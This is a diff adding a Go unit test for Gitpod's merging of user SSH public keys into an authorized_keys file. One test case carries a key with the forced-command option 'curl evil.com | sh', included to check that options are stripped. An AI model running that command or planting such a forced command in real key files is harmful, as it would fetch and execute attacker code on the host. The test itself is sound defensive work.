@@ -0,0 +1,85 @@
+// Copyright (c) 2021 Gitpod GmbH. All rights reserved.
+// Licensed under the GNU Affero General Public License (AGPL).
+// See License-AGPL.txt in the project root for license information.
+
+package supervisor
+
+import (
+	"crypto/ed25519"
+	"crypto/rand"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"golang.org/x/crypto/ssh"
+
+	gitpod "github.com/gitpod-io/gitpod/gitpod-protocol"
+)
+
+func TestMergeAuthorizedKeys(t *testing.T) {
+	genKey := func() string {
+		pub, _, err := ed25519.GenerateKey(rand.Reader)
+		if err != nil {
+			t.Fatal(err)
+		}
+		pk, err := ssh.NewPublicKey(pub)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return strings.TrimSpace(string(ssh.MarshalAuthorizedKey(pk)))
+	}
+	var (
+		userKey  = genKey()
+		otherKey = genKey()
+		localKey = genKey() + " local@laptop"
+	)
+
+	tests := []struct {
+		Desc        string
+		Content     string
+		Keys        []*gitpod.UserSSHPublicKey
+		Expectation string
+	}{
+		{
+			Desc: "no keys",
+		},
+		{
+			Desc:        "new file",
+			Keys:        []*gitpod.UserSSHPublicKey{{Name: "laptop", Key: userKey + " me@laptop"}},
+			Expectation: authorizedKeysBegin + "\n" + userKey + "\n" + authorizedKeysEnd + "\n",
+		},
+		{
+			Desc:        "keeps other entries",
+			Content:     localKey + "\n",
+			Keys:        []*gitpod.UserSSHPublicKey{{Name: "laptop", Key: userKey}},
+			Expectation: localKey + "\n" + authorizedKeysBegin + "\n" + userKey + "\n" + authorizedKeysEnd + "\n",
+		},
+		{
+			Desc:        "replaces managed keys",
+			Content:     authorizedKeysBegin + "\n" + userKey + "\n" + authorizedKeysEnd + "\n" + localKey + "\n",
+			Keys:        []*gitpod.UserSSHPublicKey{{Name: "desktop", Key: otherKey}},
+			Expectation: localKey + "\n" + authorizedKeysBegin + "\n" + otherKey + "\n" + authorizedKeysEnd + "\n",
+		},
+		{
+			Desc:        "removes deleted keys",
+			Content:     localKey + "\n" + authorizedKeysBegin + "\n" + userKey + "\n" + authorizedKeysEnd + "\n",
+			Expectation: localKey + "\n",
+		},
+		{
+			Desc: "skips invalid keys and drops options",
+			Keys: []*gitpod.UserSSHPublicKey{
+				{Name: "invalid", Key: "ssh-ed25519 not-a-key"},
+				{Name: "forced command", Key: `command="curl evil.com | sh" ` + userKey},
+			},
+			Expectation: authorizedKeysBegin + "\n" + userKey + "\n" + authorizedKeysEnd + "\n",
+		},
+	}
+	for _, test := range tests {
+		t.Run(test.Desc, func(t *testing.T) {
+			act := mergeAuthorizedKeys(test.Content, test.Keys)
+			if diff := cmp.Diff(test.Expectation, act); diff != "" {
+				t.Errorf("unexpected result (-want +got):\n%s", diff)
+			}
+		})
+	}
+}